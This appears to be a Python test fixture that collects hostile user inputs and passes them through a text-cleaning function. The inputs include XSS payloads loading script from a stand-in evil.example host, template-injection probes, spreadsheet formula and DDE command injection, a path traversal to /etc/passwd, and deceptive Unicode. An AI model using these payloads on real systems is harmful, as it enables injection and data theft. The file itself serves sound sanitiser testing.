"""Texts that want to be more than text, as people could send them; `HOSTILE` is what is left after cleaning."""

from cards.text import clean_line

_MARKUP = """
<script>window.__xss=1</script>
<ScRiPt src=http://evil.example/x.js></sCrIpT>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
<img src="http://evil.example/i.png">
<svg onload=alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<a href="javascript:alert(1)">x</a>
<a href='http://evil.example'>x</a>
<iframe src=//evil.example></iframe>
<form action=http://evil.example><input name=key></form>
<style>*{display:none}</style>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><b>x</b>
<!-- comment
-->
<![CDATA[ x ]]>
<?php echo 1 ?>
<base href=http://evil.example>
<meta http-equiv=refresh content=0>
<link rel=stylesheet href=//evil.example>
<object data=x></object>
<b>bold</b><i>it</i><br><sub>1</sub><sup>2</sup>
<span style="font-size:99px">big</span>
&lt;script&gt;
&amp;amp;
&#60;script&#62;
&nbsp;&copy
{{ 7*7 }}
{% for x in y %}
{# gone #}
${7*7}
#{7*7}
<%= 7*7 %>
%{x} %{customdata[0]}
%(name)s %s %d {0} {n} {card} {}
\\u003cscript\\u003e
javascript:alert(1)
data:text/html,<script>alert(1)</script>
"""

_MARKDOWN = """
# heading
## heading ##
#
===
---
***
___
- item
+ item
* item
1. item
1) item
123456789. item
> quote
>
`code`
``co`de``
```python
~~~
[link](http://evil.example)
[link]: http://evil.example
[link][ref]
[^1]: footnote
![image](http://evil.example/i.png)
![](x)
<http://evil.example>
<me@evil.example>
http://evil.example/a_b_c
https://evil.example/?q=1&r=2
www.evil.example
WWW.EVIL.EXAMPLE
ftp://evil.example
mailto:me@evil.example
me@evil.example
http://evil.example/`x`
http://evil.example/a|b
`http://evil.example`
|http://evil.example|
**bold** __bold__ *it* _it_ ~~gone~~
a\\
\\
\\\\
\\[x\\](y)
| a | b |
| --- | --- |
a | b
:--
: definition
:material/home: :red[x] :smile:
::: note
$x$
$$\\rule{50em}{20em}$$
\\(x\\) \\[x\\]
==mark==
^sup^ ~sub~
- [ ] task
@everyone #123
!important
"""

_FORMULAS = """
=1+1
=HYPERLINK("http://evil.example","x")
+1+1
-1+1
@SUM(1)
＝1+1
＋1
－1
＠x
'=1+1
"=1+1"
=cmd|' /C calc'!A0
;=1
,"x
"
""
a,b;c"d
%0A=1
"""

_UNICODE = [
    "\u202eevil\u202c",
    "\u2066x\u2069 \u200f y",
    "ש" * 5 + " (a) " + "ع" * 5,
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇫🇮 👍🏽",
    "Z̸̢̛̗a̵̧l̶g̷o̸" * 3,
    "W" * 200,
    "ä" * 200,
    "e\u0301 é Å Å",
    "\ufeffbom",
    "zero\u200bwidth\u200djoin\u2060er",
    "a\u00adb",
    "\U0001d4d7\U0001d4ee\U0001d4f5\U0001d4f5\U0001d4f8",
    "čđŋšŧž Đ",
    "漢字" * 60,
    "Null",
    "None",
    "NaN",
    "<NA>",
    "true",
    "0x1F",
    "1e999",
    "../../etc/passwd",
    "CON",
    "a\u2028b\u2029c",
    "tab\there",
    "\x00\x0b\x1b[31mred",
    "\ud800half",
    "\ufffe\uffff",
    "​",
]

HOSTILE = [
    text for text in (clean_line(raw) for raw in [*(_MARKUP + _MARKDOWN + _FORMULAS).split("\n"), *_UNICODE]) if text
]
